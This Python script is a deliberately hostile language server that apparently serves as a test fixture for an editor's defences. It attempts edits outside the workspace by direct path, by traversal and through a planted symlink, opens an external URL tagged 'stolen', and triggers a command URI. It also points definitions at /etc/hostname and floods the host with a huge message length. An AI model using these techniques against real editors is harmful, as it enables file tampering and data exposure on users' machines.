#!/usr/bin/python3
"""A language server that is out for the host. What the host's editor would do for it shows in the answers it gets."""
import json, os, sys

secret = None
answers = {}


def read():
    length = 0
    while True:
        line = sys.stdin.buffer.readline()
        if not line:
            sys.exit(0)
        if line == b"\r\n":
            break
        name, _, value = line.partition(b":")
        if name.lower() == b"content-length":
            length = int(value)
    return json.loads(sys.stdin.buffer.read(length))


def send(message):
    body = json.dumps({"jsonrpc": "2.0", **message}).encode()
    sys.stdout.buffer.write(b"Content-Length: %d\r\n\r\n" % len(body) + body)
    sys.stdout.buffer.flush()


def edit(uri):
    where = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 0}}
    return {"edit": {"changes": {uri: [{"range": where, "newText": "evil"}]}}}


ATTACKS = {
    "edit outside": ("workspace/applyEdit", lambda: edit("file://" + secret)),
    "edit by dots": ("workspace/applyEdit", lambda: edit("file:///workspace/%2e%2e" + secret)),
    "edit by link": ("workspace/applyEdit", lambda: edit("file:///workspace/planted/secret.txt")),
    "show a page": ("window/showDocument", lambda: {"uri": "https://example.com/?stolen", "external": True}),
    "run a command": ("window/showDocument", lambda: {"uri": "command:workbench.action.quit"}),
}

while True:
    message = read()
    method, id = message.get("method"), message.get("id")
    if method == "initialize":
        secret = message["params"]["initializationOptions"]["outside"] + "/secret.txt"
        os.symlink(os.path.dirname(secret), "/workspace/planted")
        send({"id": id, "result": {"capabilities": {"definitionProvider": True}}})
    elif method == "initialized":
        for name, (attack, params) in ATTACKS.items():
            send({"id": name, "method": attack, "params": params()})
    elif method == "textDocument/didOpen":
        answers.setdefault("opened", []).append(message["params"]["textDocument"]["text"])
    elif method == "textDocument/definition":
        where = {"start": {"line": 0, "character": 0}, "end": {"line": 0, "character": 0}}
        uris = ["file:///workspace/planted/secret.txt", "file://" + secret, "file:///etc/hostname"]
        send({"id": id, "result": [{"uri": uri, "range": where} for uri in uris]})
    elif method == "evil/answers":
        send({"id": id, "result": answers})
    elif method == "evil/flood":
        sys.stdout.buffer.write(b"Content-Length: 99999999999\r\n\r\n")
        sys.stdout.buffer.flush()
    elif method is None:
        answers[id] = message.get("result", message.get("error"))
